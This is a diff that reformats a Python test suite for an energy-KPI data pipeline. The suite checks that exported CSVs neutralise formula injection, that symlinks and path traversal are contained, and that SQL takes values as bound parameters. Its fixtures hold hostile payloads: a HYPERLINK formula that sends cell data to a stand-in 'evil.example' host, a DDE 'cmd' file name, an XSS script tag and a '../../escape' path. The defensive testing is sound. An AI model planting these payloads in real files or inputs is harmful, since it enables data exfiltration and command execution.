@@ -49,24 +49,29 @@ def hostile_run(tmp_path_factory):
     from envkpi.pipeline import run
 
     landing = Landing(tmp_path_factory.mktemp("hostile"))
-    landing.plants([
-        ["P1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=SUM(1+1)", "JP", "", ""],
-        ["+P2", "@plant", "@BU", "JP", "", ""],
-        ["-P3", "-2+3", "-BU", "JP", "", ""],
-        ["P4", "<script>alert(1)</script>", "BU <b>4</b>", "JP", "", "2017-06"],  # leaves the boundary in June
-    ])
+    landing.plants(
+        [
+            ["P1", '=HYPERLINK("http://evil.example/?"&A1,"click")', "=SUM(1+1)", "JP", "", ""],
+            ["+P2", "@plant", "@BU", "JP", "", ""],
+            ["-P3", "-2+3", "-BU", "JP", "", ""],
+            ["P4", "<script>alert(1)</script>", "BU <b>4</b>", "JP", "", "2017-06"],  # leaves the boundary in June
+        ]
+    )
     for plant in ("P1", "+P2", "-P3", "P4"):
         landing.energy(f"energy_{plant}.csv", [[plant, m, "electricity", "1000", "kWh"] for m in FY2017])
         landing.production(f"production_{plant}.csv", [[plant, m, "10", "t"] for m in FY2017])
     landing.targets([["energy_intensity", "2017", "5", "=SUM(1+1)"]])
     # Rejected values that start formulas, in a folder whose name starts one.
-    landing.energy("=HYPERLINK(1)/energy_bad.csv", [
-        ["P1", "2017-04", "electricity", "=HYPERLINK(\"http://evil.example\",\"x\")", "kWh"],
-        ["@SUM(1)", "2017-05", "electricity", "1", "kWh"],
-        ["P1", "2017-06", "electricity", "-2", "kWh"],
-        ["+1", "2017-07", "electricity", "1", "kWh"],
-        ["P1", "\t=1+1", "electricity", "1", "kWh"],  # trimmed to =1+1
-    ])
+    landing.energy(
+        "=HYPERLINK(1)/energy_bad.csv",
+        [
+            ["P1", "2017-04", "electricity", '=HYPERLINK("http://evil.example","x")', "kWh"],
+            ["@SUM(1)", "2017-05", "electricity", "1", "kWh"],
+            ["P1", "2017-06", "electricity", "-2", "kWh"],
+            ["+1", "2017-07", "electricity", "1", "kWh"],
+            ["P1", "\t=1+1", "electricity", "1", "kWh"],  # trimmed to =1+1
+        ],
+    )
     # Not contract files, listed by name: names are not trimmed, so a tab can start one.
     write_csv(landing.path / "=cmd|' calc'!A0.csv", ["a"], [["b"]])
     write_csv(landing.path / "\tnotes.csv", ["a"], [["b"]])
@@ -85,12 +90,16 @@ def hostile_run(tmp_path_factory):
 def test_every_csv_a_run_writes_starts_no_formula(hostile_run):
     landing, _ = hostile_run
     written = [p for p in landing.settings.reports.rglob("*.csv") if "data_docs" not in p.parts]
-    assert {"kpi_results.csv", "rejections.csv", "boundary_warnings.csv", "results_FY2017.csv"} <= {p.name for p in written}
+    assert {"kpi_results.csv", "rejections.csv", "boundary_warnings.csv", "results_FY2017.csv"} <= {
+        p.name for p in written
+    }
     for path in written:
         for cell in csv_cells(path):
-            assert not cell.startswith(FORMULA_STARTS) or is_plain_number(cell), f"{path.name}: {cell!r} starts a formula"
+            assert not cell.startswith(FORMULA_STARTS) or is_plain_number(cell), (
+                f"{path.name}: {cell!r} starts a formula"
+            )
     rejections = landing.rejections()
-    assert {"'=HYPERLINK(\"http://evil.example\",\"x\")", "'@SUM(1)", "'-2", "'+1", "'=1+1"} <= set(rejections.value)
+    assert {'\'=HYPERLINK("http://evil.example","x")', "'@SUM(1)", "'-2", "'+1", "'=1+1"} <= set(rejections.value)
     assert {"'=HYPERLINK(1)/energy_bad.csv", "'=cmd|' calc'!A0.csv", "'\tnotes.csv"} <= set(rejections.file)
     results = pd.read_csv(landing.settings.reports / "kpi_results.csv", dtype=str, keep_default_na=False)
     assert {"'=SUM(1+1)", "'@BU", "'-BU", "'+P2", "'-P3"} <= set(results.scope_id)
@@ -148,8 +157,11 @@ def test_export_neutralises_each_formula_start():
 
 def test_odd_file_names_load_and_never_lead_outside_the_landing_folder(landing, tmp_path):
     outside = tmp_path / "outside"
-    secret = write_csv(outside / "energy_secret.csv", ["plant_id", "period", "energy_type", "quantity", "unit"],
-                       [["P1", "2017-04", "electricity", "999999", "kWh"]])
+    secret = write_csv(
+        outside / "energy_secret.csv",
+        ["plant_id", "period", "energy_type", "quantity", "unit"],
+        [["P1", "2017-04", "electricity", "999999", "kWh"]],
+    )
     landing.plants([["P1", "Plant One", "BU", "JP", "", ""]])
     landing.energy("energy_工場 1.csv", [["P1", "2017-04", "electricity", "1", "kWh"]])
     landing.energy("sub dir/energy_x..y.csv", [["P1", "2017-05", "electricity", "2", "kWh"]])
@@ -161,7 +173,8 @@ def test_odd_file_names_load_and_never_lead_outside_the_landing_folder(landing, 
     result = landing.run()
 
     assert sorted(result.ingest.loaded) == sorted(
-        ["plants.csv", "energy_工場 1.csv", "sub dir/energy_x..y.csv", "年度 2017/energy_P1 (copy).csv"])
+        ["plants.csv", "energy_工場 1.csv", "sub dir/energy_x..y.csv", "年度 2017/energy_P1 (copy).csv"]
+    )
     # Links to a file or to a folder are reported and never followed.
     assert sorted(result.ingest.ignored) == ["energy_link.csv", "energy_up.csv", "linked_dir"]
     quantities = landing.query("select quantity from raw_energy order by quantity").quantity.tolist()
@@ -188,12 +201,28 @@ def test_a_kpi_named_like_a_path_is_drawn_inside_the_charts_folder(tmp_path):
 
     registry = pd.read_csv(PROJECT_DIR / "data" / "reference" / "kpis.csv", dtype=str, keep_default_na=False)
     registry = registry[registry.kpi == "energy_intensity"].assign(kpi="../../escape")
-    results = pd.DataFrame([{
-        "scope_level": "group", "scope_id": "group", "kpi": "../../escape", "fiscal_year": 2017,
-        "numerator": 10.0, "numerator_unit": "GJ", "denominator": 5.0, "denominator_unit": "t", "value": 2.0,
-        "base_year": 2005, "base_value": 2.5, "change_vs_base_pct": 20.0, "target_pct": 10.0,
-        "achievement_ratio": 2.0, "rating": "achieved", "completeness_pct": 100.0,
-    }])
+    results = pd.DataFrame(
+        [
+            {
+                "scope_level": "group",
+                "scope_id": "group",
+                "kpi": "../../escape",
+                "fiscal_year": 2017,
+                "numerator": 10.0,
+                "numerator_unit": "GJ",
+                "denominator": 5.0,
+                "denominator_unit": "t",
+                "value": 2.0,
+                "base_year": 2005,
+                "base_value": 2.5,
+                "change_vs_base_pct": 20.0,
+                "target_pct": 10.0,
+                "achievement_ratio": 2.0,
+                "rating": "achieved",
+                "completeness_pct": 100.0,
+            }
+        ]
+    )
     out = tmp_path / "reports" / "charts"
     written = charts.write_charts(results, out, 2017, charts.ReportDates.for_year(2017, 4, "2018-05-15"), registry)
     assert written and all(p.resolve().parent == out.resolve() for p in written)
@@ -236,8 +265,11 @@ def sql_interpolations(path: Path) -> list[tuple[int, str]]:
         if isinstance(node, ast.JoinedStr):
             text = "".join(part.value for part in node.values if isinstance(part, ast.Constant))
             if SQL_WORDS.search(text):
-                found += [(node.lineno, ast.unparse(part.value)) for part in node.values
-                          if isinstance(part, ast.FormattedValue)]
+                found += [
+                    (node.lineno, ast.unparse(part.value))
+                    for part in node.values
+                    if isinstance(part, ast.FormattedValue)
+                ]
         elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "format":
             if isinstance(node.func.value, ast.Constant) and SQL_WORDS.search(str(node.func.value.value)):
                 found.append((node.lineno, f".format({ast.unparse(node)})"))
@@ -263,9 +295,14 @@ def test_every_sql_statement_takes_values_as_parameters():
             if (relative, expression.replace('"', "'")) not in IDENTIFIER_ONLY:
                 unexpected.append(f"{relative}:{line}: {{{expression}}}")
     assert not unexpected, "values formatted into SQL (bind them as parameters):\n" + "\n".join(unexpected)
-    used = {(path.relative_to(PROJECT_DIR).as_posix(), e.replace('"', "'")) for path in python_sources()
-            for _, e in sql_interpolations(path)}
-    assert set(IDENTIFIER_ONLY) <= used, f"no longer formatted into SQL, drop from the list: {set(IDENTIFIER_ONLY) - used}"
+    used = {
+        (path.relative_to(PROJECT_DIR).as_posix(), e.replace('"', "'"))
+        for path in python_sources()
+        for _, e in sql_interpolations(path)
+    }
+    assert set(IDENTIFIER_ONLY) <= used, (
+        f"no longer formatted into SQL, drop from the list: {set(IDENTIFIER_ONLY) - used}"
+    )
 
 
 def test_the_identifiers_formatted_into_sql_come_from_fixed_lists():
@@ -289,9 +326,24 @@ def test_the_contract_sql_takes_only_checked_identifiers_and_constants():
     # Every expression the module formats into SQL is one of: a guarded name or literal, a typed
     # column built from those, or a fragment assembled from them (the variables below).
     tree = ast.parse((PROJECT_DIR / CONTRACT_SQL).read_text(encoding="utf-8"))
-    allowed_variables = {"table", "columns", "typed", "every", "raw_monthly", "accepted_monthly", "kinds", "factors", "unit",
-                         "measures", "detail", "condition", "factor",
-                         "amount", "counted", "cases"}
+    allowed_variables = {
+        "table",
+        "columns",
+        "typed",
+        "every",
+        "raw_monthly",
+        "accepted_monthly",
+        "kinds",
+        "factors",
+        "unit",
+        "measures",
+        "detail",
+        "condition",
+        "factor",
+        "amount",
+        "counted",
+        "cases",
+    }
     for line, expression in sql_interpolations(PROJECT_DIR / CONTRACT_SQL):
         expression = expression.replace('"', "'")
         assert expression.startswith(("_name(", "_literal(")) or expression in allowed_variables, (line, expression)
@@ -300,9 +352,11 @@ def test_the_contract_sql_takes_only_checked_identifiers_and_constants():
 
 def test_the_static_check_finds_a_value_formatted_into_sql(tmp_path):
     sample = tmp_path / "sample.py"
-    sample.write_text('def f(c, plant):\n    c.execute(f"select * from raw_energy where plant_id = \'{plant}\'")\n'
-                      '    c.execute("delete from delivery where id = %s" % plant)\n'
-                      '    c.execute("select * from t where a = {}".format(plant))\n')
+    sample.write_text(
+        "def f(c, plant):\n    c.execute(f\"select * from raw_energy where plant_id = '{plant}'\")\n"
+        '    c.execute("delete from delivery where id = %s" % plant)\n'
+        '    c.execute("select * from t where a = {}".format(plant))\n'
+    )
     assert [e for _, e in sql_interpolations(sample)][0] == "plant" and len(sql_interpolations(sample)) == 3
 
 
@@ -319,20 +373,33 @@ def test_published_queries_bind_hostile_filter_values(hostile_run):
 
 
 def project_texts() -> dict[str, str]:
-    paths = [PROJECT_DIR / "Makefile", PROJECT_DIR / "README.md", PROJECT_DIR / "pyproject.toml",
-             *python_sources(), *(PROJECT_DIR / "docs").rglob("*.md"), *(PROJECT_DIR / "notebooks").glob("*.py"),
-             *(PROJECT_DIR / "tests" / "e2e").glob("*.py"), *(PROJECT_DIR / "benchmarks").rglob("*.py")]
+    paths = [
+        PROJECT_DIR / "Makefile",
+        PROJECT_DIR / "README.md",
+        PROJECT_DIR / "pyproject.toml",
+        *python_sources(),
+        *(PROJECT_DIR / "docs").rglob("*.md"),
+        *(PROJECT_DIR / "notebooks").glob("*.py"),
+        *(PROJECT_DIR / "tests" / "e2e").glob("*.py"),
+        *(PROJECT_DIR / "benchmarks").rglob("*.py"),
+    ]
     return {p.relative_to(PROJECT_DIR).as_posix(): p.read_text(encoding="utf-8") for p in paths if p.is_file()}
 
 
 def test_the_prefect_server_and_everything_else_bind_to_127_0_0_1_only():
     texts = project_texts()
     # Invocations (a command with options, or an argument list), not prose that names the command.
-    starts = [(name, line) for name, text in texts.items() for line in text.splitlines()
-              if (re.search(r"prefect\S*\s+server\s+start", line) and " --" in line) or '"server", "start"' in line]
+    starts = [
+        (name, line)
+        for name, text in texts.items()
+        for line in text.splitlines()
+        if (re.search(r"prefect\S*\s+server\s+start", line) and " --" in line) or '"server", "start"' in line
+    ]
     assert any(name == "Makefile" for name, _ in starts), "make server no longer starts the Prefect server"
     for name, line in starts:
-        assert re.search(r"--host\W+127\.0\.0\.1", line), f"{name}: the Prefect server is started without --host 127.0.0.1: {line}"
+        assert re.search(r"--host\W+127\.0\.0\.1", line), (
+            f"{name}: the Prefect server is started without --host 127.0.0.1: {line}"
+        )
     for name, text in texts.items():
         assert "0.0.0.0" not in text, f"{name} mentions 0.0.0.0"
         for url in re.findall(r"PREFECT_API_URL\s*[=:]\s*\S+", text):
